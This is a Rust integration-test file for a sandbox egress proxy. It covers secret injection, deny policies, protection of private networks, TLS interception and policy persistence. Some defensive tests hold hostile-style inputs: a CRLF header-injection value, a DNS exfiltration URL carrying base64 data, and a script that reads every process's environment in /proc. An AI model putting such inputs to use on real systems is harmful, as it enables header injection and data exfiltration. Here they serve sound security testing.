//! The egress proxy from inside real sandboxes, against upstream servers this test starts on
//! loopback (opened to the proxy with `--egress-allow-net 127.0.0.0/8`, as an operator
//! would open a private network): credentials injected per sandbox from secrets that no
//! sandbox can find, policies that deny and change at once, the node's own ports and
//! private networks refused, tunnels left untouched, and policies kept through sleep, a
//! fork and a restart of the node.

use super::cluster_harness::{owner_of, TestCluster};
use super::harness::{api_err, create, fork, sh, unique, Node};
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use warren_api::egress::EgressPolicy;
use warren_api::ErrorCode;

/// An HTTP upstream on loopback that answers `ok` to every request and keeps the request
/// heads it saw (on the test's side: a sandbox never sees them echoed).
pub(super) struct Upstream {
    pub(super) addr: std::net::SocketAddr,
    seen: Arc<Mutex<Vec<String>>>,
}

/// A fresh CA named `ca_name` and a certificate of it for `name` (an address or a name):
/// (CA PEM, certificate PEM, key PEM).
pub(super) fn ca_and_cert(ca_name: &str, name: &str) -> (String, String, String) {
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut p = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    p.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    p.distinguished_name
        .push(rcgen::DnType::CommonName, ca_name);
    let ca = p.self_signed(&ca_key).unwrap();
    let issuer = rcgen::Issuer::from_ca_cert_pem(&ca.pem(), ca_key).unwrap();
    let key = rcgen::KeyPair::generate().unwrap();
    let cert = rcgen::CertificateParams::new(vec![name.to_string()])
        .unwrap()
        .signed_by(&key, &issuer)
        .unwrap();
    (ca.pem(), cert.pem(), key.serialize_pem())
}

/// A CA of the test's for HTTPS upstreams (the operator's internal CA), and a server
/// certificate of it for `ip` (an address or a name): (CA PEM, server config).
pub(super) fn upstream_tls(ip: &str) -> (String, Arc<rustls::ServerConfig>) {
    use rustls::pki_types::pem::PemObject;
    let (ca, cert, key) = ca_and_cert("warren test upstream CA", ip);
    let cfg = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(
        vec![rustls::pki_types::CertificateDer::from_pem_slice(cert.as_bytes()).unwrap()],
        rustls::pki_types::PrivateKeyDer::from_pem_slice(key.as_bytes()).unwrap(),
    )
    .unwrap();
    (ca, Arc::new(cfg))
}

/// A file of the test's, removed on drop.
pub(super) struct TempFile(pub(super) std::path::PathBuf);

impl Drop for TempFile {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// A node whose proxy may reach loopback (as an operator opens a private network) and
/// trusts `ca_pem` for upstream HTTPS (`--egress-ca-file`, which the returned file holds).
pub(super) async fn node_trusting(ca_pem: &str) -> (Node, TempFile) {
    let ca_file = TempFile(std::env::temp_dir().join(format!("wt-egress-ca-{}.pem", unique())));
    std::fs::write(&ca_file.0, ca_pem).unwrap();
    let node = Node::start_with(
        "127.0.0.1:0",
        &[
            "--egress-allow-net",
            "127.0.0.0/8",
            "--egress-ca-file",
            ca_file.0.to_str().unwrap(),
        ],
    )
    .await;
    (node, ca_file)
}

/// Creates sandbox `<prefix>-<unique>` with one rule: toward `host`, header `header` set to
/// `template`. Returns its id.
pub(super) async fn sandbox_with_rule(
    c: &warren_client::Client,
    prefix: &str,
    host: &str,
    header: &str,
    template: &str,
) -> String {
    let id = format!("{prefix}-{}", unique());
    c.put_sandbox(
        &id,
        &create(serde_json::json!({"egress": {"rules": [{"host": host,
            "set_headers": {header: template}}]}})),
    )
    .await
    .unwrap();
    id
}

impl Upstream {
    pub(super) fn start(ip: &str) -> Upstream {
        Upstream::serve((ip, 0), None)
    }

    /// An HTTPS upstream with a certificate of its own CA.
    pub(super) fn start_tls(ip: &str, tls: Arc<rustls::ServerConfig>) -> Upstream {
        Upstream::serve((ip, 0), Some(tls))
    }

    pub(super) fn serve(
        at: impl std::net::ToSocketAddrs,
        tls: Option<Arc<rustls::ServerConfig>>,
    ) -> Upstream {
        let l = TcpListener::bind(at).unwrap();
        let addr = l.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let s2 = seen.clone();
        std::thread::spawn(move || {
            for conn in l.incoming() {
                let Ok(conn) = conn else { return };
                let seen = s2.clone();
                let tls = tls.clone();
                std::thread::spawn(move || {
                    let stream: Box<dyn ReadWrite> = match tls {
                        Some(cfg) => Box::new(rustls::StreamOwned::new(
                            rustls::ServerConnection::new(cfg).unwrap(),
                            conn,
                        )),
                        None => Box::new(conn),
                    };
                    let mut r = BufReader::new(stream);
                    loop {
                        let mut head = String::new();
                        loop {
                            let mut line = String::new();
                            if r.read_line(&mut line).unwrap_or(0) == 0 {
                                return;
                            }
                            if line == "\r\n" {
                                break;
                            }
                            head.push_str(&line);
                        }
                        seen.lock().unwrap().push(head);
                        let w = r.get_mut();
                        if w.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")
                            .and_then(|_| w.flush())
                            .is_err()
                        {
                            return;
                        }
                    }
                });
            }
        });
        Upstream { addr, seen }
    }

    pub(super) fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    /// The last request head seen, lowercased.
    pub(super) fn last(&self) -> String {
        self.seen
            .lock()
            .unwrap()
            .last()
            .cloned()
            .unwrap_or_default()
            .to_ascii_lowercase()
    }

    pub(super) fn count(&self) -> usize {
        self.seen.lock().unwrap().len()
    }
}

trait ReadWrite: std::io::Read + Write + Send {}
impl<T: std::io::Read + Write + Send> ReadWrite for T {}

pub(super) fn policy(v: serde_json::Value) -> EgressPolicy {
    serde_json::from_value(v).unwrap()
}

/// A Python program that reads a value on stdin and lists every file (but /proc, /sys,
/// /dev) and every process's environment and command line holding it: the value is never
/// in its own command line.
const SCAN: &str = r#"
import os, sys
v = sys.stdin.read().strip().encode()
hits = []
for root, dirs, files in os.walk('/'):
    if root == '/':
        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev')]
    for f in files:
        p = os.path.join(root, f)
        try:
            if os.path.islink(p) or not os.path.isfile(p):
                continue
            with open(p, 'rb') as fh:
                if v in fh.read():
                    hits.append(p)
        except Exception:
            pass
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) != os.getpid():
        for n in ('environ', 'cmdline'):
            try:
                with open('/proc/%s/%s' % (pid, n), 'rb') as fh:
                    if v in fh.read():
                        hits.append('/proc/%s/%s' % (pid, n))
            except Exception:
                pass
print('HITS', ' '.join(hits))
"#;

/// Where in the sandbox `value` is found (handed to the scan reversed, through `rev`).
async fn find_in_sandbox(node: &Node, id: &str, value: &str) -> String {
    let reversed: String = value.chars().rev().collect();
    let script = format!(
        "printf %s '{reversed}' | rev | timeout 120 python3 -c \"$(cat <<'PY'\n{SCAN}\nPY\n)\""
    );
    let out = sh(&node.client, id, &script).await;
    out.lines()
        .find_map(|l| l.strip_prefix("HITS"))
        .expect("the scan ran")
        .trim()
        .to_string()
}

/// Everything under `dir` (recursively) and the file `log` that holds `value`.
fn find_on_host(dir: &std::path::Path, log: &std::path::Path, value: &str) -> Vec<String> {
    let mut hits = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() && !p.is_symlink() {
                stack.push(p);
            } else if std::fs::read(&p)
                .is_ok_and(|b| b.windows(value.len()).any(|w| w == value.as_bytes()))
            {
                hits.push(p.display().to_string());
            }
        }
    }
    if std::fs::read_to_string(log).is_ok_and(|l| l.contains(value)) {
        hits.push(log.display().to_string());
    }
    hits
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rule_gives_each_sandbox_its_own_credential_and_no_sandbox_can_find_it() {
    let node = Node::start_logged(&["--egress-allow-net", "127.0.0.0/8"]).await;
    let c = &node.client;
    let up = Upstream::start("127.0.0.5");
    let (red, blue) = (format!("RED-{}", unique()), format!("BLUE-{}", unique()));
    c.put_secret("tok-red", &red).await.unwrap();
    c.put_secret("tok-blue", &blue).await.unwrap();

    // Write-only: names and times, never values.
    let list = serde_json::to_string(&c.secrets().await.unwrap()).unwrap();
    assert!(
        list.contains("tok-red") && list.contains("tok-blue"),
        "{list}"
    );
    assert!(!list.contains(&red) && !list.contains(&blue), "{list}");
    let one = c.secret("tok-red").await.unwrap();
    assert_eq!(one.name, "tok-red");
    let (status, code, _) = api_err(c.secret("absent").await.unwrap_err());
    assert_eq!((status, code), (404, ErrorCode::NotFound));
    let (status, code, _) = api_err(c.put_secret("bad name", "x").await.unwrap_err());
    assert_eq!((status, code), (400, ErrorCode::InvalidArgument));
    let (status, _, _) = api_err(c.put_secret("crlf", "a\r\nx-evil: 1").await.unwrap_err());
    assert_eq!(status, 400);

    // One policy, two sandboxes, two credentials: chosen by each sandbox's label.
    let rule = serde_json::json!({"rules": [{"host": "127.0.0.5",
        "set_headers": {"authorization": "Bearer ${secret:tok-${sandbox.label.team}}"}}]});
    let (a, b) = (
        format!("eg-red-{}", unique()),
        format!("eg-blue-{}", unique()),
    );
    for (id, team) in [(&a, "red"), (&b, "blue")] {
        c.put_sandbox(
            id,
            &create(serde_json::json!({"labels": {"team": team}, "egress": rule})),
        )
        .await
        .unwrap();
    }
    let got = sh(c, &a, &format!("curl -sS -m 10 {}", up.url("/repo"))).await;
    assert_eq!(got, "ok");
    assert!(
        up.last().contains(&format!(
            "authorization: bearer {}",
            red.to_ascii_lowercase()
        )),
        "{}",
        up.last()
    );
    let got = sh(c, &b, &format!("curl -sS -m 10 {}", up.url("/repo"))).await;
    assert_eq!(got, "ok");
    assert!(
        up.last().contains(&format!(
            "authorization: bearer {}",
            blue.to_ascii_lowercase()
        )),
        "{}",
        up.last()
    );
    // Every sandbox program is pointed at the proxy.
    let env = sh(c, &a, "env | sort").await;
    for var in [
        "HTTP_PROXY=",
        "https_proxy=",
        "NO_PROXY=localhost,127.0.0.1,::1",
    ] {
        assert!(env.contains(var), "{var} missing in {env}");
    }

    // The scan finds a value that is there (its control), and not the credentials.
    let decoy = format!("DECOY-{}", unique());
    sh(c, &a, &format!("echo {decoy} > /workspace/decoy")).await;
    let hits = find_in_sandbox(&node, &a, &decoy).await;
    assert!(
        hits.contains("/workspace/decoy"),
        "the scan missed a planted value: {hits}"
    );
    assert_eq!(
        find_in_sandbox(&node, &a, &red).await,
        "",
        "the credential is in the sandbox"
    );
    assert_eq!(
        find_in_sandbox(&node, &b, &blue).await,
        "",
        "the credential is in the sandbox"
    );
    // Nor in what Docker keeps of the containers, the node's files or its log.
    for id in [&a, &b] {
        let config = node.inspect(id, "{{json .Config}}");
        assert!(
            !config.contains(&red) && !config.contains(&blue),
            "{config}"
        );
    }
    let log = node.log_file.clone().unwrap();
    for v in [&red, &blue] {
        let hits = find_on_host(&node.data_dir, &log, v);
        assert!(hits.is_empty(), "a secret's value is in {hits:?}");
    }
    // The log does say what was decided.
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(
        text.contains("decision") && text.contains("127.0.0.5"),
        "no decision logged"
    );

    // A deleted secret fails the request (403 naming it) instead of sending no header.
    c.delete_secret("tok-red").await.unwrap();
    c.delete_secret("tok-red").await.unwrap();
    let before = up.count();
    let out = sh(c, &a, &format!("curl -sS -m 10 {}", up.url("/repo"))).await;
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["code"], "EGRESS_DENIED", "{out}");
    assert!(v["message"].as_str().unwrap().contains("tok-red"), "{out}");
    assert_eq!(up.count(), before, "the request reached the upstream");
}

/// Under a policy that can allow no name (default deny, no network in its lists), a name is
/// refused as asked, before anything resolves it: a sandbox cannot make the node look names
/// up (a way to carry data out through DNS), and an unknown name gets the same 403 as any.
#[tokio::test]
async fn a_default_deny_policy_refuses_names_without_resolving_them() {
    let node = Node::start().await;
    let id = format!("egn-{}", unique());
    node.client
        .put_sandbox(
            &id,
            &create(
                serde_json::json!({"egress": {"default": "deny", "allow_hosts": ["pypi.org"]}}),
            ),
        )
        .await
        .unwrap();
    let c = &node.client;
    for url in [
        "http://c2VjcmV0LWRhdGE.exfil.invalid/",
        "http://example.invalid:8080/x",
    ] {
        let out = sh(c, &id, &format!("curl -sS -m 20 {url}")).await;
        let v: serde_json::Value = serde_json::from_str(&out)
            .unwrap_or_else(|e| panic!("{url}: not a JSON answer ({e}): {out}"));
        assert_eq!(v["code"], "EGRESS_DENIED", "{url}: {out}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_policy_denies_at_once_refuses_the_node_and_private_networks_and_travels_with_the_sandbox(
) {
    let mut node = Node::start_with("127.0.0.1:0", &["--egress-allow-net", "127.0.0.0/8"]).await;
    let up = Upstream::start("127.0.0.6");
    let id = format!("eg-{}", unique());
    node.client
        .put_sandbox(
            &id,
            &create(serde_json::json!({"egress": {"default": "deny"}})),
        )
        .await
        .unwrap();
    let c = node.client.clone();
    let curl = |url: String| format!("curl -sS -m 10 {url}");

    // Default deny: a 403 naming host and sandbox, and nothing reaches the upstream.
    let out = sh(&c, &id, &curl(up.url("/"))).await;
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["code"], "EGRESS_DENIED", "{out}");
    assert_eq!(v["host"], "127.0.0.6");
    assert_eq!(v["sandbox"], id.as_str());
    assert_eq!(up.count(), 0);

    // Allowed from the next request on, with a rule that tags it.
    let p = policy(
        serde_json::json!({"default": "deny", "allow_hosts": ["127.0.0.6"],
        "rules": [{"host": "127.0.0.6", "path_prefix": "/tagged", "set_headers": {"x-sandbox": "${sandbox.id}"}}]}),
    );
    let set = c.put_egress(&id, &p).await.unwrap();
    assert_eq!(c.egress(&id).await.unwrap(), set);
    assert_eq!(sh(&c, &id, &curl(up.url("/plain"))).await, "ok");
    assert!(!up.last().contains("x-sandbox"), "{}", up.last());
    assert_eq!(sh(&c, &id, &curl(up.url("/tagged/1"))).await, "ok");
    assert!(
        up.last().contains(&format!("x-sandbox: {id}")),
        "{}",
        up.last()
    );

    // Through a tunnel (CONNECT) to a host with a rule, plain HTTP gets the rule too.
    let out = sh(
        &c,
        &id,
        &format!(
            "curl -sS -m 10 -p -x \"$HTTP_PROXY\" {}",
            up.url("/tagged/2")
        ),
    )
    .await;
    assert_eq!(out, "ok");
    assert!(up.last().starts_with("get /tagged/2"), "{}", up.last());
    assert!(
        up.last().contains(&format!("x-sandbox: {id}")),
        "{}",
        up.last()
    );

    // The node's own API port stays refused although all of loopback is open, and a
    // private network the operator did not open is refused whatever the policy says.
    c.put_egress(&id, &policy(serde_json::json!({})))
        .await
        .unwrap();
    let api_port = node.url.rsplit(':').next().unwrap().to_string();
    for target in [
        format!("http://127.0.0.1:{api_port}/healthz"),
        format!("http://127.0.0.2:{api_port}/healthz"),
        "http://10.9.8.7/".into(),
    ] {
        let out = sh(
            &c,
            &id,
            &format!("curl -sS -m 10 --noproxy '' -x \"$HTTP_PROXY\" {target}"),
        )
        .await;
        let v: serde_json::Value =
            serde_json::from_str(&out).unwrap_or_else(|_| panic!("{target}: {out}"));
        assert_eq!(v["code"], "EGRESS_DENIED", "{target}: {out}");
    }

    // A bad policy is refused, also for a new id, which it then does not create.
    for target in [id.clone(), format!("eg-new-{}", unique())] {
        let bad = c
            .request(
                reqwest::Method::PUT,
                &format!("/v1/sandboxes/{target}/egress"),
            )
            .json(&serde_json::json!({"allow_hosts": ["not a host"]}))
            .send()
            .await
            .unwrap();
        assert_eq!(bad.status(), 400, "{target}");
    }
    assert_eq!(c.list_sandboxes(&[]).await.unwrap().sandboxes.len(), 1);

    // Kept through sleep and wake, a fork, and a restart of the node.
    c.put_egress(&id, &p).await.unwrap();
    c.sleep(&id).await.unwrap();
    assert_eq!(c.egress(&id).await.unwrap(), set);
    assert_eq!(
        sh(&c, &id, &curl(up.url("/tagged/3"))).await,
        "ok",
        "after a wake"
    );
    assert!(up.last().contains(&format!("x-sandbox: {id}")));
    let forked = fork(&c, &id, 1).await;
    let child = forked.sandboxes[0].id.clone();
    assert_eq!(c.egress(&child).await.unwrap(), set);
    assert_eq!(sh(&c, &child, &curl(up.url("/tagged/4"))).await, "ok");
    assert!(
        up.last().contains(&format!("x-sandbox: {child}")),
        "{}",
        up.last()
    );
    let denied = sh(&c, &child, "curl -sS -m 10 http://127.0.0.7:9/").await;
    assert!(denied.contains("EGRESS_DENIED"), "{denied}");
    node.restart().await;
    let c = node.client.clone();
    assert_eq!(c.egress(&id).await.unwrap(), set);
    assert_eq!(
        sh(&c, &id, &curl(up.url("/tagged/5"))).await,
        "ok",
        "after a restart"
    );
    assert!(up.last().contains(&format!("x-sandbox: {id}")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn https_with_a_rule_is_intercepted_with_the_sandboxes_own_ca_and_without_one_is_tunnelled() {
    let (up_ca, tls) = upstream_tls("127.0.0.9");
    let (node, _ca_file) = node_trusting(&up_ca).await;
    let c = &node.client;
    let up = Upstream::start_tls("127.0.0.9", tls);
    let url = format!("https://{}", up.addr);
    c.put_secret("vcs", "VCS-TOKEN-1").await.unwrap();
    let id = sandbox_with_rule(
        c,
        "eg-tls",
        "127.0.0.9",
        "authorization",
        "token ${secret:vcs}",
    )
    .await;

    // curl and Python's own HTTPS client, through HTTPS_PROXY, trust the sandbox's CA
    // from the system bundle and the variables the guest set; the upstream gets the header.
    assert_eq!(
        sh(c, &id, &format!("curl -sS -m 10 {url}/curl")).await,
        "ok"
    );
    assert!(
        up.last().contains("authorization: token vcs-token-1"),
        "{}",
        up.last()
    );
    let py = format!(
        "python3 -c \"import urllib.request; print(urllib.request.urlopen('{url}/py', timeout=10).read().decode())\""
    );
    assert_eq!(sh(c, &id, &py).await.trim(), "ok");
    assert!(up.last().starts_with("get /py"), "{}", up.last());
    assert!(
        up.last().contains("authorization: token vcs-token-1"),
        "{}",
        up.last()
    );
    // The certificate the sandbox saw is its own CA's, not the upstream's.
    let issuer = sh(
        c,
        &id,
        &format!("curl -sS -m 10 -v -o /dev/null {url}/who 2>&1 | grep -i 'issuer:'"),
    )
    .await;
    assert!(issuer.contains(&format!("sandbox {id}")), "{issuer}");

    // Without a rule the tunnel is untouched: the sandbox sees the upstream's own
    // certificate (it trusts that CA only when told to) and the upstream no header.
    c.put_egress(&id, &policy(serde_json::json!({})))
        .await
        .unwrap();
    let untrusted = c
        .sh(&id, &format!("curl -sS -m 10 {url}/untrusted"))
        .await
        .unwrap();
    assert_ne!(
        untrusted.exit_code, 0,
        "the upstream's CA is not the sandbox's"
    );
    sh(
        c,
        &id,
        &format!("cat > /workspace/up-ca.pem <<'EOF'\n{up_ca}EOF"),
    )
    .await;
    let out = sh(
        c,
        &id,
        &format!("curl -sS -m 10 -v --cacert /workspace/up-ca.pem {url}/tunnelled 2>&1"),
    )
    .await;
    assert!(out.contains("warren test upstream CA"), "{out}");
    assert!(up.last().starts_with("get /tunnelled"), "{}", up.last());
    assert!(!up.last().contains("authorization"), "{}", up.last());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_joined_node_opens_the_clusters_secrets_and_a_drained_sandbox_keeps_its_policy() {
    let c = TestCluster::start_with(3, 1, "egress_allow_nets = [\"127.0.0.0/8\"]\n").await;
    let up = Upstream::start("127.0.0.10");
    let value = format!("SHARED-{}", unique());
    c.nodes[0]
        .client
        .put_secret("shared", &value)
        .await
        .unwrap();
    // Every node lists it once it applied the entry.
    for n in &c.nodes {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while n.client.secret("shared").await.is_err() {
            assert!(
                std::time::Instant::now() < deadline,
                "{} never listed the secret",
                n.name
            );
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
    }
    // A sandbox owned by a node that joined (it got the secrets key in its join answer).
    let joined = c.nodes[1].name.clone();
    let mut id = None;
    for _ in 0..60 {
        let candidate = format!("eg-cl-{}", unique());
        if owner_of(&c, 0, &candidate).await == joined {
            id = Some(candidate);
            break;
        }
        c.nodes[0].client.delete_sandbox(&candidate).await.unwrap();
    }
    let id = id.expect("no id landed on the joined node");
    let p = policy(serde_json::json!({"rules": [{"host": "127.0.0.10",
        "set_headers": {"authorization": "Bearer ${secret:shared}"}}]}));
    // Set through another node: forwarded to the owner.
    let set = c.nodes[2].client.put_egress(&id, &p).await.unwrap();
    let curl = format!("curl -sS -m 10 {}", up.url("/c"));
    assert_eq!(sh(&c.nodes[0].client, &id, &curl).await, "ok");
    let want = format!("authorization: bearer {}", value.to_ascii_lowercase());
    assert!(up.last().contains(&want), "{}", up.last());

    // Drained away, it keeps its policy on its new node, which opens the secret too.
    super::cluster_harness::drain(&c, 0, &joined).await;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(90);
    loop {
        let s = c.nodes[0].client.get_sandbox(&id).await;
        if s.as_ref()
            .is_ok_and(|s| s.node != joined && !s.node.is_empty())
        {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{id} did not leave {joined}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
    }
    assert_eq!(c.nodes[0].client.egress(&id).await.unwrap(), set);
    let before = up.count();
    assert_eq!(sh(&c.nodes[2].client, &id, &curl).await, "ok");
    assert_eq!(up.count(), before + 1);
    assert!(up.last().contains(&want), "{}", up.last());
}

/// A WebSocket client in a sandbox that speaks through the proxy (an upgrade request in
/// absolute form, as to any HTTP proxy): the rule's credential reaches the upstream in the
/// handshake, and frames then go both ways over the spliced connection.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
// tungstenite's handshake callback returns its (large) error response type.
#[allow(clippy::result_large_err)]
async fn a_websocket_from_a_sandbox_gets_its_credential_and_echoes_through_the_proxy() {
    use futures_util::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::handshake::server;
    let node = Node::start_logged(&["--egress-allow-net", "127.0.0.0/8"]).await;
    let c = &node.client;
    let token = format!("WS-{}", unique());
    c.put_secret("ws-token", &token).await.unwrap();
    // A WebSocket echo upstream that keeps the authorization of each handshake.
    let l = tokio::net::TcpListener::bind("127.0.0.6:0").await.unwrap();
    let up = l.local_addr().unwrap();
    let seen = Arc::new(Mutex::new(Vec::<String>::new()));
    let seen2 = seen.clone();
    tokio::spawn(async move {
        while let Ok((s, _)) = l.accept().await {
            let seen = seen2.clone();
            tokio::spawn(async move {
                let cb = |req: &server::Request, resp: server::Response| {
                    let auth = req
                        .headers()
                        .get("authorization")
                        .map(|v| v.to_str().unwrap_or_default().to_string())
                        .unwrap_or_default();
                    seen.lock().unwrap().push(auth);
                    Ok(resp)
                };
                let Ok(mut ws) = tokio_tungstenite::accept_hdr_async(s, cb).await else {
                    return;
                };
                while let Some(Ok(m)) = ws.next().await {
                    if m.is_text() && ws.send(m).await.is_err() {
                        return;
                    }
                }
            });
        }
    });
    let id = sandbox_with_rule(
        c,
        "eg-ws",
        "127.0.0.6",
        "authorization",
        "Bearer ${secret:ws-token}",
    )
    .await;
    let client = format!(
        r#"python3 - {up} <<'PY'
import base64, os, socket, sys
from urllib.parse import urlparse
proxy = urlparse(os.environ["HTTP_PROXY"])
target = sys.argv[1]
s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall((f"GET http://{{target}}/chat HTTP/1.1\r\nHost: {{target}}\r\n"
           f"Upgrade: websocket\r\nConnection: Upgrade\r\n"
           f"Sec-WebSocket-Key: {{key}}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
def exact(n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            sys.exit("closed after %r" % buf)
        buf += chunk
    return buf
head = b""
while not head.endswith(b"\r\n\r\n"):
    head += exact(1)
print(head.split(b"\r\n")[0].decode())
for text in ["hello", "through the proxy"]:
    msg = text.encode()
    mask = os.urandom(4)
    s.sendall(bytes([0x81, 0x80 | len(msg)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(msg)))
    first, second = exact(2)
    print(exact(second & 0x7F).decode())
PY"#
    );
    let out = sh(c, &id, &client).await;
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines,
        [
            "HTTP/1.1 101 Switching Protocols",
            "hello",
            "through the proxy"
        ],
        "{out}"
    );
    assert_eq!(
        seen.lock().unwrap().as_slice(),
        [format!("Bearer {token}")],
        "the upstream's handshake"
    );
    // The credential is the proxy's to add: nothing of it reached the sandbox.
    assert!(!out.contains(&token));
}
